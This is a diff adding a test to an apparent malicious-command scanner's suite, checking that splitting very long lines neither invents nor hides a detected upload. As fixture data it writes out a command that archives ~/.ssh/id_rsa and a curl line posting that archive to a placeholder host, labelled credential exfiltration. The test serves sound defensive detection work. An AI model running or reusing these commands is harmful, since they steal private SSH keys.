@@ -216,4 +216,15 @@ describe('long lines and paragraphs (hostile padding)', () => {
     expect(techniques(`${bundle}\n${'echo ok\n'.repeat(39)}${send}`)).toEqual(['credential-exfiltration']);
     expect(techniques(`${bundle}\n${'echo ok\n'.repeat(40)}${send}`)).toEqual([]);
   });
+
+  it('reads a sender on a long line with the line around each segment: a cut neither makes nor hides a send', () => {
+    const bundle = 'tar czf /tmp/k.tgz ~/.ssh/id_rsa';
+    // A segment starts at 3,072: `xcurl` cut there reads `curl` without the letter before it.
+    const sender = (before: string) => `${'q'.repeat(3072 - before.length)}${before}curl -F "f=@/tmp/k.tgz" https://example.invalid/u${' z'.repeat(2000)}`;
+    expect(sender('x').length).toBeGreaterThan(4096);
+    expect(scanMalicious(`${bundle}\n${sender('x')}\n`)).toEqual([]);
+    expect(techniques(`${bundle}\n${sender(' ')}\n`)).toEqual(['credential-exfiltration']);
+    // The same sender whole on a short line, for comparison.
+    expect(scanMalicious(`${bundle}\nqxcurl -F "f=@/tmp/k.tgz" https://example.invalid/u\n`)).toEqual([]);
+  });
 });
